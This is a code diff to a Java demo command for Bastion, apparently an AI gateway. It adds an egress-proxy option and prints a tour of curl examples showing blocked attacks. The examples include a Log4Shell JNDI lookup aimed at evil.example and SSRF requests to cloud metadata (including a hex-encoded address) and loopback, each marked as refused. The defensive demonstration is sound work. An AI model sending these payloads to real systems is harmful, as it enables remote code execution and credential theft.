@@ -42,6 +42,8 @@ public final class DemoCommand implements Callable<Integer> {
     int adminPort;
     @Option(names = "--mock-port", defaultValue = "8081", description = "Mock model port (default: ${DEFAULT-VALUE}).")
     int mockPort;
+    @Option(names = "--egress-port", defaultValue = "3128", description = "Egress proxy port (default: ${DEFAULT-VALUE}).")
+    int egressPort;
     @Option(names = "--data", defaultValue = "./data", description = "Data directory (default: ${DEFAULT-VALUE}).")
     Path data;
 
@@ -67,6 +69,7 @@ public final class DemoCommand implements Callable<Integer> {
                     .replace("{{public_port}}", Integer.toString(port))
                     .replace("{{admin_port}}", Integer.toString(adminPort))
                     .replace("{{mock_port}}", Integer.toString(mockPort))
+                    .replace("{{egress_port}}", Integer.toString(egressPort))
                     .replace("{{data_dir}}", dataDir);
         }
         BastionConfig config = new ConfigLoader().parse(yaml, "demo.yaml");
@@ -91,7 +94,7 @@ public final class DemoCommand implements Callable<Integer> {
             }
             throw e;
         }
-        printTour(spec.commandLine().getOut(), key.plaintext(), key.record().id(), gateway.publicPort(), gateway.adminPort(), mockPort, dataDir);
+        printTour(spec.commandLine().getOut(), key.plaintext(), key.record().id(), gateway.publicPort(), gateway.adminPort(), mockPort, egressPort, dataDir);
         GatewayRunner.awaitShutdown(vertx, () -> GatewayRunner.await(gateway.close()), () -> GatewayRunner.await(mock.close()), store::close);
         return 0;
     }
@@ -100,7 +103,7 @@ public final class DemoCommand implements Callable<Integer> {
         return "'{\"model\":\"mock-gpt-small\",\"messages\":[{\"role\":\"user\",\"content\":\"" + text + "\"}]}'";
     }
 
-    static void printTour(PrintWriter out, String key, String keyId, int port, int adminPort, int mockPort, String dataDir) {
+    static void printTour(PrintWriter out, String key, String keyId, int port, int adminPort, int mockPort, int egressPort, String dataDir) {
         String base = "http://127.0.0.1:" + port;
         String chat = "'{\"model\":\"mock-gpt-small\",\"messages\":[{\"role\":\"user\",\"content\":\"Hello, Bastion\"}]}'";
         String stream = "'{\"model\":\"mock-gpt-small\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"Hello, Bastion\"}]}'";
@@ -108,6 +111,7 @@ public final class DemoCommand implements Callable<Integer> {
         out.println("Bastion demo is running.");
         out.println("  gateway     " + base + "   (in front of the mock model on a loopback port)");
         out.println("  admin       http://127.0.0.1:" + adminPort + "   (/health/live, /health/ready, /metrics; loopback only)");
+        out.println("  egress      http://127.0.0.1:" + egressPort + "   (the HTTP(S) proxy for your apps' own outbound calls)");
         out.println("  store       " + dataDir + "/bastion.db (SQLite)");
         out.println("  demo key    " + keyId + " for org 'demo', scope 'invoke', expires in 24h");
         out.println();
@@ -158,6 +162,15 @@ public final class DemoCommand implements Callable<Integer> {
         out.println("  # Log4Shell lookup in the request's own fields is refused with 403 request_blocked before anything is forwarded");
         out.println("  curl -s " + base + "/v1/chat/completions -H \"Authorization: Bearer $BASTION_KEY\" \\");
         out.println("       -H 'Content-Type: application/json' -d " + ask("SELECT name FROM users; -- explain this query").replace("{\"model\"", "{\"user\":\"${jndi:ldap://evil.example/a}\",\"model\""));
+        out.println();
+        out.println("  # egress: your apps' outbound calls through Bastion (HTTPS_PROXY=http://$BASTION_KEY@127.0.0.1:" + egressPort + "); the demo's rule");
+        out.println("  # allows the model providers only, and cloud metadata is refused in every spelling before any connection");
+        out.println("  curl -s -x http://$BASTION_KEY@127.0.0.1:" + egressPort + " http://169.254.169.254/latest/meta-data/   # 403 egress_denied");
+        out.println("  curl -s -x http://127.0.0.1:" + egressPort + " http://example.com/                                   # 407: who is asking?");
+        out.println();
+        out.println("  # link previews: Bastion fetches a URL for you, public addresses only, every redirect checked again");
+        out.println("  curl -s '" + base + "/v1/preview?url=http://0xa9fea9fe/latest/' -H \"Authorization: Bearer $BASTION_KEY\"   # 403: metadata");
+        out.println("  curl -s '" + base + "/v1/preview?url=http://localhost/' -H \"Authorization: Bearer $BASTION_KEY\"           # 403: loopback");
         out.println();
         out.println("  # no key: 401, in Bastion's JSON error shape with a request id");
         out.println("  curl -si " + base + "/v1/models");
